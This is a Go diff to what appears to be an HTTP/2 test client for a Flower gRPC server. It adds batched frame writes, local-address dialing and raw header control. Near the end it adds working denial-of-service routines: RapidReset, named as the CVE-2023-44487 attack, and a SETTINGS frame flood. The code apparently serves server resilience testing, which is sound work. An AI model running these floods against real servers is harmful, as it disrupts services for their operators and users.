@@ -30,6 +30,7 @@ import (
 // own goroutine, frames are written one at a time.
 type H2Conn struct {
 	conn net.Conn
+	out  batchWriter // the framer's output
 	fr   *http2.Framer
 	wmu  sync.Mutex // serializes frame writes and the hpack encoder
 	henc *hpack.Encoder
@@ -42,7 +43,8 @@ type H2Conn struct {
 	streams  map[uint32]*H2Stream
 	nextID   uint32
 	readErr  error
-	goAway   bool
+	closed   chan struct{} // closed when the reader ends
+	goAway   *GoAway
 	maxFrame int
 }
 
@@ -83,7 +85,22 @@ func (s *H2Stream) String() string {
 // h2c with prior knowledge), sends the client preface and its SETTINGS,
 // and starts the reader. Close it when done.
 func DialH2(ctx context.Context, addr string, cfg *tls.Config) (*H2Conn, error) {
+	return DialH2From(ctx, "", addr, cfg)
+}
+
+// DialH2From is DialH2 from the local IP address local ("" lets the
+// system choose), such as 127.0.0.2: on Linux every address of
+// 127.0.0.0/8 is the loopback interface's, so a test can be a second
+// peer of a server that tells its peers apart by source address.
+func DialH2From(ctx context.Context, local, addr string, cfg *tls.Config) (*H2Conn, error) {
 	d := &net.Dialer{Timeout: 10 * time.Second}
+	if local != "" {
+		ip := net.ParseIP(local)
+		if ip == nil {
+			return nil, fmt.Errorf("DialH2From: local address %q is not an IP address", local)
+		}
+		d.LocalAddr = &net.TCPAddr{IP: ip}
+	}
 	var conn net.Conn
 	var err error
 	if cfg != nil {
@@ -96,16 +113,19 @@ func DialH2(ctx context.Context, addr string, cfg *tls.Config) (*H2Conn, error) 
 	if err != nil {
 		return nil, err
 	}
-	c := &H2Conn{conn: conn, connWin: 65535, initWin: 65535, streams: map[uint32]*H2Stream{}, nextID: 1, maxFrame: 16384}
+	c := &H2Conn{conn: conn, connWin: 65535, initWin: 65535, streams: map[uint32]*H2Stream{}, nextID: 1, maxFrame: 16384, closed: make(chan struct{})}
 	c.cond = sync.NewCond(&c.mu)
-	c.fr = http2.NewFramer(conn, conn)
+	c.out.conn = conn
+	c.fr = http2.NewFramer(&c.out, conn)
 	c.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
 	c.henc = hpack.NewEncoder(&c.hbuf)
-	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
-		conn.Close()
-		return nil, err
-	}
-	if err := c.fr.WriteSettings(); err != nil {
+	err = c.write(func() error {
+		if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
+			return err
+		}
+		return c.fr.WriteSettings()
+	})
+	if err != nil {
 		conn.Close()
 		return nil, err
 	}
@@ -113,8 +133,57 @@ func DialH2(ctx context.Context, addr string, cfg *tls.Config) (*H2Conn, error) 
 	return c, nil
 }
 
+// write runs f, which writes frames with c.fr, under the write lock.
+func (c *H2Conn) write(f func() error) error {
+	c.wmu.Lock()
+	defer c.wmu.Unlock()
+	return f()
+}
+
+// batchWriter is what the framer writes to: the connection, one write per
+// frame, or while batch is set a buffer that flush sends in one write.
+type batchWriter struct {
+	conn  net.Conn
+	batch bool
+	buf   []byte
+}
+
+func (w *batchWriter) Write(p []byte) (int, error) {
+	if w.batch {
+		w.buf = append(w.buf, p...)
+		return len(p), nil
+	}
+	return w.conn.Write(p)
+}
+
+// flush sends the batched frames.
+func (w *batchWriter) flush() error {
+	_, err := w.conn.Write(w.buf)
+	w.buf = w.buf[:0]
+	return err
+}
+
 // Close closes the connection.
 func (c *H2Conn) Close() error { return c.conn.Close() }
+
+// Closed is closed once the connection ended: the server closed it, or
+// reading failed (Err says why).
+func (c *H2Conn) Closed() <-chan struct{} { return c.closed }
+
+// GoAway is what a GOAWAY frame of the server said.
+type GoAway struct {
+	Code         http2.ErrCode
+	LastStreamID uint32 // the highest stream id it may have processed
+	Debug        string // its debug data, if any
+}
+
+// GoAway returns what the last GOAWAY frame of the server said, or nil
+// when none came.
+func (c *H2Conn) GoAway() *GoAway {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	return c.goAway
+}
 
 // Err is the error that ended the reader (nil while it runs).
 func (c *H2Conn) Err() error {
@@ -133,6 +202,7 @@ func (c *H2Conn) read() {
 		}
 		c.cond.Broadcast()
 		c.mu.Unlock()
+		close(c.closed)
 	}()
 	for {
 		var f http2.Frame
@@ -158,18 +228,12 @@ func (c *H2Conn) read() {
 			}
 			c.cond.Broadcast()
 			c.mu.Unlock()
-			c.wmu.Lock()
-			err = c.fr.WriteSettingsAck()
-			c.wmu.Unlock()
-			if err != nil {
+			if err = c.write(c.fr.WriteSettingsAck); err != nil {
 				return
 			}
 		case *http2.PingFrame:
 			if !f.IsAck() {
-				c.wmu.Lock()
-				err = c.fr.WritePing(true, f.Data)
-				c.wmu.Unlock()
-				if err != nil {
+				if err = c.write(func() error { return c.fr.WritePing(true, f.Data) }); err != nil {
 					return
 				}
 			}
@@ -215,12 +279,12 @@ func (c *H2Conn) read() {
 			c.mu.Unlock()
 			// Give the window back so that responses flow.
 			if n := f.Header().Length; n > 0 {
-				c.wmu.Lock()
-				err = c.fr.WriteWindowUpdate(0, n)
-				if err == nil && !f.StreamEnded() {
-					err = c.fr.WriteWindowUpdate(f.StreamID, n)
-				}
-				c.wmu.Unlock()
+				err = c.write(func() error {
+					if err := c.fr.WriteWindowUpdate(0, n); err != nil || f.StreamEnded() {
+						return err
+					}
+					return c.fr.WriteWindowUpdate(f.StreamID, n)
+				})
 				if err != nil {
 					return
 				}
@@ -234,7 +298,7 @@ func (c *H2Conn) read() {
 			c.mu.Unlock()
 		case *http2.GoAwayFrame:
 			c.mu.Lock()
-			c.goAway = true
+			c.goAway = &GoAway{Code: f.ErrCode, LastStreamID: f.LastStreamID, Debug: string(f.DebugData())}
 			for id, s := range c.streams {
 				if id > f.LastStreamID {
 					c.finish(s)
@@ -279,9 +343,30 @@ func (c *H2Conn) finish(s *H2Stream) {
 	c.cond.Broadcast()
 }
 
+// RequestHeaders are the request headers of a gRPC call of method
+// ("/flwr.proto.Fleet/CreateNode"), in the order gRPC clients send them:
+// the fields Open sends.
+func RequestHeaders(method string) []hpack.HeaderField {
+	return []hpack.HeaderField{
+		{Name: ":method", Value: "POST"},
+		{Name: ":scheme", Value: "https"},
+		{Name: ":path", Value: method},
+		{Name: ":authority", Value: "localhost"},
+		{Name: "content-type", Value: "application/grpc"},
+		{Name: "te", Value: "trailers"},
+	}
+}
+
 // Open starts a gRPC call of method ("/flwr.proto.Fleet/CreateNode") with
 // its request HEADERS and returns the stream.
 func (c *H2Conn) Open(method string) (*H2Stream, error) {
+	return c.OpenHeaders(RequestHeaders(method))
+}
+
+// OpenHeaders starts a stream whose HEADERS carry fields as they are, in
+// their order (duplicates, odd values and missing fields included), and
+// returns the stream.
+func (c *H2Conn) OpenHeaders(fields []hpack.HeaderField) (*H2Stream, error) {
 	c.mu.Lock()
 	id := c.nextID
 	c.nextID += 2
@@ -289,22 +374,89 @@ func (c *H2Conn) Open(method string) (*H2Stream, error) {
 	c.streams[id] = s
 	c.mu.Unlock()
 
-	c.wmu.Lock()
-	defer c.wmu.Unlock()
+	return s, c.write(func() error { return c.writeHeaders(id, fields, false) })
+}
+
+// writeHeaders writes one HEADERS frame with fields on stream id. c.wmu is
+// held.
+func (c *H2Conn) writeHeaders(id uint32, fields []hpack.HeaderField, end bool) error {
 	c.hbuf.Reset()
-	for _, hf := range []hpack.HeaderField{
-		{Name: ":method", Value: "POST"},
-		{Name: ":scheme", Value: "https"},
-		{Name: ":path", Value: method},
-		{Name: ":authority", Value: "localhost"},
-		{Name: "content-type", Value: "application/grpc"},
-		{Name: "te", Value: "trailers"},
-	} {
+	for _, hf := range fields {
 		if err := c.henc.WriteField(hf); err != nil {
-			return nil, err
+			return err
 		}
 	}
-	return s, c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true})
+	return c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndHeaders: true, EndStream: end})
+}
+
+// burstFlush is how many frames a burst writes between flushes.
+const burstFlush = 256
+
+// burst calls frame n times under the write lock, flushing every
+// burstFlush frames, until the server sent GOAWAY, the connection failed
+// or ctx ended (a write blocked past ctx's deadline fails); it returns
+// how many frames were flushed.
+func (c *H2Conn) burst(ctx context.Context, n int, frame func() error) (int, error) {
+	if d, ok := ctx.Deadline(); ok {
+		c.conn.SetWriteDeadline(d)
+		defer c.conn.SetWriteDeadline(time.Time{})
+	}
+	done := 0
+	for done < n {
+		c.mu.Lock()
+		stopped := c.goAway != nil || c.readErr != nil
+		c.mu.Unlock()
+		if stopped {
+			return done, ErrStreamEnded
+		}
+		if err := ctx.Err(); err != nil {
+			return done, err
+		}
+		k := min(burstFlush, n-done)
+		err := c.write(func() error {
+			c.out.batch = true
+			defer func() { c.out.batch = false }()
+			for range k {
+				if err := frame(); err != nil {
+					c.out.buf = c.out.buf[:0]
+					return err
+				}
+			}
+			return c.out.flush()
+		})
+		if err != nil {
+			return done, err
+		}
+		done += k
+	}
+	return done, nil
+}
+
+// RapidReset opens n calls of method and cancels each at once: HEADERS
+// then RST_STREAM (CANCEL) on a new stream, n times (the attack of
+// CVE-2023-44487). It stops early, returning ErrStreamEnded, once the
+// server sent GOAWAY or the connection failed, and at ctx's end. It
+// returns how many pairs were written; the streams are not tracked.
+func (c *H2Conn) RapidReset(ctx context.Context, method string, n int) (int, error) {
+	fields := RequestHeaders(method)
+	return c.burst(ctx, n, func() error {
+		c.mu.Lock()
+		id := c.nextID
+		c.nextID += 2
+		c.mu.Unlock()
+		if err := c.writeHeaders(id, fields, false); err != nil {
+			return err
+		}
+		return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
+	})
+}
+
+// SettingsFlood writes n SETTINGS frames (each setting
+// SETTINGS_MAX_CONCURRENT_STREAMS, which the server must acknowledge),
+// stopping as RapidReset does, and returns how many were written.
+func (c *H2Conn) SettingsFlood(ctx context.Context, n int) (int, error) {
+	s := http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 100}
+	return c.burst(ctx, n, func() error { return c.fr.WriteSettings(s) })
 }
 
 // ErrStreamEnded is returned by Send when the server ended the stream
@@ -365,9 +517,7 @@ func (c *H2Conn) send(ctx context.Context, s *H2Stream, pending []byte, total in
 			pending = pending[k:]
 		}
 		chunk = append(chunk, zeros[:int(n)-len(chunk)]...)
-		c.wmu.Lock()
-		err := c.fr.WriteData(s.ID, end && done+n == total, chunk)
-		c.wmu.Unlock()
+		err := c.write(func() error { return c.fr.WriteData(s.ID, end && done+n == total, chunk) })
 		if err != nil {
 			return err
 		}
@@ -449,15 +599,11 @@ func PushTaskResHead(runID, node int64, ancestor string, n int) []byte {
 
 // Reset cancels s with RST_STREAM (CANCEL), as a client that gives up.
 func (c *H2Conn) Reset(s *H2Stream) error {
-	c.wmu.Lock()
-	defer c.wmu.Unlock()
-	return c.fr.WriteRSTStream(s.ID, http2.ErrCodeCancel)
+	return c.write(func() error { return c.fr.WriteRSTStream(s.ID, http2.ErrCodeCancel) })
 }
 
 // WriteRaw writes a DATA frame on s with payload as it is, ignoring flow
 // control: for tests that craft the gRPC framing themselves.
 func (c *H2Conn) WriteRaw(s *H2Stream, payload []byte, end bool) error {
-	c.wmu.Lock()
-	defer c.wmu.Unlock()
-	return c.fr.WriteData(s.ID, end, payload)
+	return c.write(func() error { return c.fr.WriteData(s.ID, end, payload) })
 }
